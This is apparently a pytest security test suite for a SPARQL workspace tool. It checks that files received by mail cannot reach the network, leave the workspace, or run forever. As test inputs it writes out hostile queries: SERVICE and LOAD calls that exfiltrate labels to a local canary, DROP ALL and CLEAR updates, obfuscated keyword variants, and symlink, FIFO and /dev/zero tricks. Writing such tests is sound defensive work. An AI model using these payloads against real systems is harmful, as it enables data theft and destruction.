"""A workspace that came by mail is data: nothing in it reaches the network, leads outside or has no end."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

import hezuo
from conftest import Maker
from hezuo.base import workspace
from hezuo.base.limits import Limits
from hezuo.base.problems import HezuoError, OntologyError, QueryError, WorkspaceError
from hezuo.base.store import Store
from hezuo.cli import main
from hezuo.record import guard
from hezuo.record.load import load_dataset
from tools_kit import examples

# Nearly every test opens a workspace.
pytestmark = pytest.mark.slow

SHORT = ("--timeout", "0.3")
HEAD = "# severity: info\n# message.zh: 甲\n# message.en: A\n"
VIEW = "# title.zh: 甲\n# title.en: A\n# purpose.zh: 甲\n# purpose.en: A\n# layout: islands\n"
QUESTION = "# title.zh: 甲\n# title.en: A\n# column: s | 甲 | A\n"


@pytest.fixture(scope="module")
def canary() -> Iterator[tuple[str, list[bytes]]]:
    """A listener on this machine: its address, and what was said to it."""
    said: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        done = threading.Event()

        def serve() -> None:
            while not done.is_set():
                try:
                    connection, _ = server.accept()
                except TimeoutError:
                    continue
                with connection:
                    said.append(connection.recv(100))

        thread = threading.Thread(target=serve)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}/", said
        done.set()
        thread.join()


def put(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def call(*args: str) -> Result:
    found = CliRunner().invoke(main, args)
    assert found.exception is None or isinstance(found.exception, SystemExit), found.exception
    return found


def test_the_listener_hears(canary: tuple[str, list[bytes]]) -> None:
    address, said = canary
    with socket.create_connection(("127.0.0.1", int(address.rsplit(":", 1)[1][:-1]))) as connection:
        connection.sendall(b"GET")
    for _ in range(100):
        if said:
            break
        time.sleep(0.02)
    assert said == [b"GET"]
    said.clear()


ANY = "{ ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
#: Rule → its text; @ is the address of the listener.
HOSTILE = {
    "a-violation": HEAD + "SELECT ?entry { ?p rdfs:label ?n SERVICE SILENT <@x> { ?entry ?q ?n } }",
    "b-violation": HEAD
    + "SELECT ?entry { ?p a hz:Party ; rdfs:label ?n BIND(IRI(CONCAT('@t?d=', ENCODE_FOR_URI(?n))) AS ?u) "
    "FILTER NOT EXISTS { SERVICE SILENT ?u { ?entry ?q <a:b> } } }",
    "c-violation": HEAD + "SELECT (COUNT(*) AS ?n) " + ANY,
    "d-violation": HEAD + "SELECT ?entry { ?entry ?p ?o FILTER(" + "(" * 20_000 + "1" + ")" * 20_000 + ") }",
    "e-violation": HEAD + "SELECT ?entry FROM NAMED <@x> { GRAPH ?g { ?entry ?p ?o } }",
    "infer-0": "CONSTRUCT { ?s a ?o } WHERE { SERVICE SILENT <@> { ?s ?p ?o } }",
    "infer-1-classes": "# In the place of the shipped one.\nLOAD SILENT <@x>",
    "infer-91": "LOAD <@x> INTO GRAPH <a:b>",
    "infer-92": "CONSTRUCT { ?s skos:prefLabel '冒名' } WHERE { ?s a hz:Party }",
    "infer-93": "CONSTRUCT { ?a ?b ?f } WHERE " + ANY,
    "infer-94": "CONSTRUCT { ?s a ?o } FROM <@x> WHERE { ?s a ?o }",
    "infer-95": "INSERT { GRAPH <a:g> { ?a ?b ?f } } WHERE " + ANY,
    "infer-96": "DELETE { GRAPH ?g { ?s a ?o } } INSERT { GRAPH ?g { ?s a <a:b> } } WHERE { GRAPH ?g { ?s a ?o } }",
    "infer-97": "CLEAR SILENT DEFAULT ;\nCREATE GRAPH <a:b> ; COPY DEFAULT TO <a:b> ; MOVE <a:b> TO <a:c>",
    "infer-98": "DROP ALL",
}
VERBS = {"check": (), "build": (), "page": (), "ask": ("role-ladder",), "show": ("甲",)}


@pytest.mark.parametrize(
    ("name", "verb"), [*((n, "check") for n in HOSTILE), *((n, v) for n in ("b-violation", "infer-0") for v in VERBS)]
)
def test_what_rules_do_ends_in_a_sentence(
    make_workspace: Maker, canary: tuple[str, list[bytes]], name: str, verb: str
) -> None:
    address, said = canary
    folder = make_workspace({})
    put(folder, f"ontology/rules/{name}.rq", HOSTILE[name].replace("@", address))
    begun = time.monotonic()
    found = call(verb, *VERBS[verb], "--root", str(folder), *SHORT)
    assert found.exit_code == 2, found.output
    assert "规则" in found.output
    assert f"{name}.rq" in found.output
    assert time.monotonic() - begun < 30
    assert said == []


SERVICE_IN = {
    "ontology/views/0-x.rq": VIEW
    + "SELECT ?thing { ?thing a hz:Party ; rdfs:label ?n SERVICE SILENT <@> { ?a ?b ?n } }",
    "ontology/questions/x.rq": QUESTION + "SELECT ?s { ?p rdfs:label ?s SERVICE SILENT <@> { ?a ?b ?s } } ORDER BY ?s",
}
STORY = """[[step]]
title = ["甲", "A"]
view = "overview"
question = "x"
figures = { n = "count" }
text = ["{n}", "{n}"]
"""


def test_views_questions_and_stories_reach_nothing(make_workspace: Maker, canary: tuple[str, list[bytes]]) -> None:
    address, said = canary
    for name, text in SERVICE_IN.items():
        folder = make_workspace({})
        put(folder, name, text.replace("@", address))
        if "questions" in name:
            put(folder, "data/story.toml", STORY)
        verbs: list[tuple[str, ...]] = [("page",), ("build",), ("check",)]
        verbs += (
            [("picture", "x", "--out", str(folder / "x.svg"))] if "views" in name else [("ask", "x"), ("ask", "甲")]
        )
        for verb in verbs:
            found = call(*verb, "--root", str(folder), *SHORT)
            assert found.exit_code == (1 if verb == ("check",) else 2), (verb, found.output)
            assert "SERVICE" in found.output
        assert said == []


def test_an_endless_query_is_ended_by_name(make_workspace: Maker) -> None:
    folder = make_workspace({})
    put(folder, "ontology/views/0-x.rq", VIEW + f"SELECT (COUNT(*) AS ?thing) {ANY}")
    put(folder, "ontology/questions/x.rq", QUESTION + f"SELECT (COUNT(*) AS ?s) {ANY}")
    typed = f"SELECT (COUNT(*) AS ?n) {ANY}"
    for verb, name in ((("page",), "0-x.rq"), (("ask", "x"), "questions/x.rq"), (("ask", typed), "")):
        found = call(*verb, "--root", str(folder), *SHORT, "--lang", "en")
        assert found.exit_code == 2
        assert "more than 0.3 seconds" in found.output
        assert "--timeout" in found.output
        assert name in found.output
    found = call("ask", "SELECT * { ?a ?b ?c }", "--root", str(folder), "--max-rows", "5", "--lang", "en")
    assert (found.exit_code, "more than 5 rows" in found.output) == (2, True)


# --- inference --------------------------------------------------------------------------------------------------------


def test_inference_may_add_but_no_second_value(make_workspace: Maker) -> None:
    folder = make_workspace(
        {"tables/2024/parties.csv": [["名称", "类别", "来源", "页"], ["乙公司", "企业", "report-2024", 1]]}
    )
    put(
        folder, "ontology/rules/infer-0.rq", 'CONSTRUCT { ?p hz:motto "勤" ; a hz:Chosen } WHERE { ?p a hz:Enterprise }'
    )
    store = load_dataset(workspace.find(folder)).store
    assert store.select('SELECT ?s { GRAPH ?g { ?s a hz:Chosen ; hz:motto "勤" } ?s rdfs:label ?l }').rows
    for prop in ("skos:prefLabel", "rdfs:label"):
        put(folder, "ontology/rules/infer-0.rq", f'CONSTRUCT {{ ?p {prop} "冒名公司" }} WHERE {{ ?p a hz:Enterprise }}')
        with pytest.raises(OntologyError) as refused:
            load_dataset(workspace.find(folder))
        for said in ("infer-0.rq", "乙公司", "冒名公司", "abel"):
            assert said in refused.value.message("zh")
            assert said in refused.value.message("en")
    put(
        folder,
        "ontology/rules/infer-0.rq",
        "CONSTRUCT { ?p skos:prefLabel ?n } WHERE { ?p a hz:Enterprise ; skos:prefLabel ?n }",
    )
    assert (
        load_dataset(workspace.find(folder))
        .store.select('SELECT ?s { ?s skos:prefLabel ?n FILTER(STR(?n) = "乙公司") }')
        .rows
    )


def test_the_package_is_trusted_by_its_bytes(make_workspace: Maker) -> None:
    """Neither by the name of a file nor by where it stands: a copy is as good, a file of the same name is not."""
    folder = workspace.find(make_workspace({}))
    shipped = next(p for p in folder.ontology_files("rules/infer-1-classes.rq"))
    assert folder.brought(shipped) == ""
    copy = put(folder.root, "ontology/rules/infer-1-classes.rq", shipped.read_text(encoding="utf-8"))
    assert folder.brought(copy) == ""
    copy.write_text(shipped.read_text(encoding="utf-8") + " ", encoding="utf-8")
    assert folder.brought(copy) == "ontology/rules/infer-1-classes.rq"
    # Trusted ones start no process; own ones do.
    assert load_dataset(folder).store.worker.pid is not None
    copy.unlink()
    assert load_dataset(folder).store.worker.pid is None


# --- disguises --------------------------------------------------------------------------------------------------------

WORDS = ["SERVICE", "LOAD", "CLEAR", "DROP", "CREATE", "COPY", "MOVE", "ADD", "INSERT", "DELETE", "FROM", "FROM NAMED"]
BEFORE = [
    "",
    "# c\n",
    "PREFIX a: <http://a/> ",
    "BASE <http://a/> ",
    "SELECT * {} ; ",
    "SELECT * { ",
    "ASK { } ",
    "'' ",
]
AFTER = [" <@>", " SILENT <@> { ?s ?p ?o }", " ALL", " DEFAULT", " GRAPH <@>", " DATA { <@> <a:b> 1 }", "a:b"]
AFTER += ["#\n<@> {}", " ?u {}"]
SPELT = [str, str.lower, lambda c: f"\\u{ord(c):04X}", lambda c: f"\\U{ord(c):08x}", lambda c: c + "\u200b"]


@st.composite
def disguised(draw: st.DrawFn) -> str:
    """A forbidden word in any case, letters of it escaped, between other things."""
    word = draw(st.sampled_from(WORDS))
    spelt = "".join(draw(st.sampled_from(SPELT))(c) if c != " " and draw(st.integers(0, 3)) == 0 else c for c in word)
    text = draw(st.sampled_from(BEFORE)) + spelt + draw(st.sampled_from(AFTER))
    return text + draw(st.sampled_from(["", " }", " WHERE { ?s ?p ?o }", " { ?s ?p ?o } }"]))


@pytest.fixture(scope="module")
def small() -> Iterator[Store]:
    found = Store(Limits(seconds=20))
    found.load("<http://a/s> <http://a/p> <http://a/o> .\n", "http://a/g")
    yield found
    found.worker.close()


RUNS = [guard.sparql, guard.answer, lambda s, t: guard.constructed(s, t, "x"), lambda s, t: guard.select(s, t, "x")]


@examples(60)
@given(query=disguised(), run=st.sampled_from(RUNS))
def test_a_forbidden_word_does_nothing_in_any_disguise(
    small: Store, canary: tuple[str, list[bytes]], query: str, run: Callable[[Store, str], object]
) -> None:
    address, said = canary
    with suppress(QueryError):
        run(small, query.replace("@", address))
    assert said == []
    assert guard.sparql(small, "SELECT * { ?s ?p ?o }").rows == [("http://a/o", "http://a/p", "http://a/s")]
    assert guard.sparql(small, "SELECT ?g { GRAPH ?g { ?s ?p ?o } }").rows == [("http://a/g",)]


OUTSIDE = ["FROM <@>", "FROM NAMED <@>", "from a:b", "FROM#c\n<@>", "FROM NAMED#c\n a:b", "FROM a:g FROM <@>"]


@pytest.mark.parametrize("clause", OUTSIDE)
def test_a_graph_outside_the_dataset_is_named(small: Store, clause: str) -> None:
    start = "PREFIX a: <http://a/> SELECT * "
    with pytest.raises(QueryError) as refused:
        guard.sparql(small, f"{start} {clause.replace('@', 'http://b/')} {{ ?s ?p ?o }}")
    assert refused.value.key == "foreign-graph"
    query = start + "FROM a:g FROM NAMED <http://a/g> { ?s ?p ?o FILTER(?o != 'FROM <http://b/>') } # FROM a:b"
    assert len(guard.sparql(small, query).rows) == 1


# --- links, pipes, devices --------------------------------------------------------------------------------------------

#: Where a file may stand, and how many of the targets below are tried there: opening a workspace takes its time.
PLACES = {
    "ontology/views/0-x.rq": 5,
    "ontology/kinds/x.ttl": 1,
    "ontology/rules/x-violation.rq": 1,
    "ontology/questions/x.rq": 1,
    "data/tables/2024/events.csv": 4,
    "data/tables/2024/x.xlsx": 1,
    "data/identity/judgements.csv": 1,
    "data/story.toml": 2,
    "data/workspace.toml": 4,
}


def refused(folder: Path, name: str) -> str:
    """How a workspace with such a file is answered: by name, and soon."""
    begun = time.monotonic()
    try:
        ws = hezuo.open_workspace(folder)
        said = "".join(p.place.file + p.message("zh") for p in ws.errors)
        if not said:
            ws.page()
    except HezuoError as error:
        said = error.message("zh")
    assert time.monotonic() - begun < 20
    assert Path(name).name in said
    return said


@pytest.mark.unix_only
@pytest.mark.parametrize("name", PLACES)
def test_no_link_leads_outside_and_no_pipe_is_waited_for(make_workspace: Maker, tmp_path: Path, name: str) -> None:
    folder = make_workspace({})
    secret = put(tmp_path, "elsewhere/secret", 'name = "密"\ncollege = "密"\n')
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    targets = (secret, Path(os.path.relpath(secret, path.parent)), Path("/dev/zero"), tmp_path / "none")
    for target in targets[: PLACES[name]]:
        path.unlink(missing_ok=True)
        path.symlink_to(target)
        said = refused(folder, name)
        assert "以外" in said
        assert "密" not in said
    path.unlink()
    os.mkfifo(path)
    assert "管道" in refused(folder, name)


@pytest.mark.unix_only
def test_folders_that_are_links_are_not_walked(make_workspace: Maker, tmp_path: Path) -> None:
    folder = make_workspace({})
    (folder / "data" / "tables" / "2023").symlink_to("/")
    (folder / "data" / "tables" / "2024" / "all").symlink_to("/")
    ws = hezuo.open_workspace(folder)
    assert [(p.place.file, p.code) for p in ws.errors] == [
        ("data/tables/2023", "held-outside"),
        ("data/tables/2024/all", "held-outside"),
    ]
    assert workspace.find(folder).years() == ["2024"]
    (folder / "data" / "tables" / "2023").unlink()
    (folder / "ontology").symlink_to(tmp_path)
    put(tmp_path, "rules/x-violation.rq", HEAD + "SELECT ?entry { ?entry a hz:Entry }")
    with pytest.raises(WorkspaceError):
        hezuo.open_workspace(folder)


@pytest.mark.unix_only
def test_nothing_is_written_through_a_link(make_workspace: Maker, tmp_path: Path) -> None:
    folder, outside = make_workspace({}), tmp_path / "elsewhere"
    put(outside, "dataset.nq", "mine")
    put(outside, "parties.csv", "mine")
    for link, verb in (
        ("data/build", ("build",)),
        ("data/build", ("page",)),
        ("data/build/tables", ("build",)),
        ("ontology/kinds", ("new", "visits-x", "--zh", "访问甲", "--en", "Visit A")),
    ):
        path = folder / link
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(outside)
        found = call(*verb, "--root", str(folder))
        assert found.exit_code == 2, (link, verb, found.output)
        assert link in found.output
        assert {p.name: p.read_text() for p in outside.iterdir()} == dict.fromkeys(
            ("dataset.nq", "parties.csv"), "mine"
        )
        path.unlink()
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    (fresh / "data").symlink_to(outside)
    assert call("init", str(fresh), "--college", "甲").exit_code == 2
    assert len(list(outside.iterdir())) == 2


@pytest.mark.unix_only
def test_links_of_ones_own_are_followed(make_workspace: Maker, tmp_path: Path) -> None:
    """The workspace itself may be behind a link, a file may be linked within it, and results go where --out says."""
    folder = make_workspace({})
    tables = folder / "data" / "tables" / "2024"
    kept = put(folder, "kept/parties.csv", (tables / "parties.csv").read_text(encoding="utf-8-sig"))
    (tables / "parties.csv").unlink()
    (tables / "parties.csv").symlink_to(kept)
    link = tmp_path / "link"
    link.symlink_to(folder)
    ws = hezuo.open_workspace(link)
    assert ws.errors == []
    out = tmp_path / "out"
    out.mkdir()
    (tmp_path / "to-out").symlink_to(out)
    ws.build(tmp_path / "to-out", data_only=True)
    assert (out / "dataset.nq").is_file()


@pytest.mark.parametrize("pattern", ["namelists/../../../*", "../data/*", "/etc/*", "namelists/**x"])
def test_what_the_ontology_names_lies_in_it(make_workspace: Maker, pattern: str) -> None:
    assert workspace.find(make_workspace({})).ontology_files(pattern) == []


# --- what is more than data -------------------------------------------------------------------------------------------


def test_what_is_more_than_data_is_listed_before_anything_is_read(make_workspace: Maker) -> None:
    folder = make_workspace({})
    shipped = workspace.find(folder).ontology_files("rules/infer-1-classes.rq")[0].read_text(encoding="utf-8")
    put(folder, "ontology/rules/infer-1-classes.rq", shipped + "# more\n")
    put(folder, "ontology/rules/infer-2-role-properties.rq", "DROP ALL")
    put(folder, "ontology/rules/x-violation.rq", HEAD + "SELECT ?entry { ?entry a hz:Entry }")
    put(folder, "ontology/rules/read.me", "x")
    put(folder, "ontology/kinds/x.ttl", "x")
    put(folder, "data/story.toml", "")
    same = workspace.find(folder).ontology_files("views/*.rq")[0]
    put(folder, f"ontology/views/{same.name}", same.read_text(encoding="utf-8"))
    found = call("check", "--untrusted", "--root", str(folder), "--lang", "en")
    assert found.exit_code == 2, "the kind does not parse"
    lines = [line.split("  ")[1:] for line in found.output.split("\n") if line.startswith("  ")]
    assert lines == [
        ["data/story.toml", "story", "of this workspace"],
        ["data/workspace.toml", "settings", "of this workspace"],
        ["ontology/kinds/x.ttl", "kind (the schema of a table)", "added"],
        ["ontology/rules/infer-1-classes.rq", "inference", "takes the place of the shipped file (+1 −0 lines)"],
        ["ontology/rules/infer-2-role-properties.rq", "inference", lines[4][2]],
        ["ontology/rules/read.me", "other (nothing reads it)", "added"],
        ["ontology/rules/x-violation.rq", "rule", "added"],
    ]
    assert "told: 8." in found.output
    assert "1 are the same as shipped" in found.output
    (folder / "ontology" / "kinds" / "x.ttl").unlink()
    put(folder, "ontology/rules/infer-2-role-properties.rq", "CONSTRUCT {} WHERE {}")
    found = call("check", "--untrusted", "--root", str(folder), "--format", "json")
    assert found.stdout.startswith("[")
    assert "x-violation.rq" in found.stderr
    assert [row[2] for row in hezuo.open_workspace(folder).code().rows("en").rows].count("added") == 2


# --- Ctrl-C -----------------------------------------------------------------------------------------------------------

STOPPED = """
import sys, threading
from hezuo.base import store
from hezuo.cli import run
kept = store.Store.select
def select(self, *args, **options):
    print("asking", file=sys.stderr, flush=True)
    # A query of the package that the engine does not come back from.
    return kept(self, "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }")
store.Store.select = select
run()
"""
ENDLESS = "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
WAYS = {
    "in the engine": (STOPPED, ("check",)),
    "in the process of queries": ("from hezuo.cli import run; run()", ("ask", ENDLESS)),
}


@pytest.mark.unix_only
@pytest.mark.parametrize("way", WAYS)
def test_ctrl_c_is_heard_within_a_second(make_workspace: Maker, way: str) -> None:
    code, verb = WAYS[way]
    command = [sys.executable, "-c", code, *verb, "--root", str(make_workspace({}))]
    with subprocess.Popen(command, stdout=-3, stderr=-1, text=True, encoding="utf-8") as running:
        assert running.stderr is not None
        for line in running.stderr:
            if "asking" in line or "2024" in line:
                break
        time.sleep(0.6)
        begun = time.monotonic()
        running.send_signal(signal.SIGINT)
        said = running.stderr.read()
        running.wait(timeout=20)
        assert time.monotonic() - begun < 1.5
        assert running.returncode == 1
        assert "Stopped" in said
        assert "Traceback" not in said


# --- where the program stands -----------------------------------------------------------------------------------------


@pytest.mark.linux_only
@pytest.mark.parametrize(
    ("line", "code", "said"),
    [
        ("$HEZUO ask role-ladder > /dev/full", 1, "磁盘已满"),
        ("$HEZUO ask - <&-", 2, "标准输入"),
        ("mkdir gone && cd gone && rmdir ../gone && $HEZUO check", 2, "当前文件夹"),
        ("ulimit -v 2000000; $HEZUO ask 'ASK {}'", 0, ""),
        ("ulimit -v 600000; OPENBLAS_NUM_THREADS=1 $HEZUO ask 'ASK {}'", 2, "内存"),
    ],
)
def test_what_the_system_denies_is_a_sentence(
    make_workspace: Maker, tmp_path: Path, line: str, code: int, said: str
) -> None:
    root = make_workspace({})
    line = line.replace("$HEZUO", f"'{sys.executable}' -m hezuo").replace(" ask ", f" ask --root '{root}' ")
    found = subprocess.run(
        ["bash", "-c", line], capture_output=True, check=False, text=True, encoding="utf-8", cwd=tmp_path, timeout=60
    )
    assert found.returncode == code, found.stderr
    assert said in found.stderr
    assert "Traceback" not in found.stderr
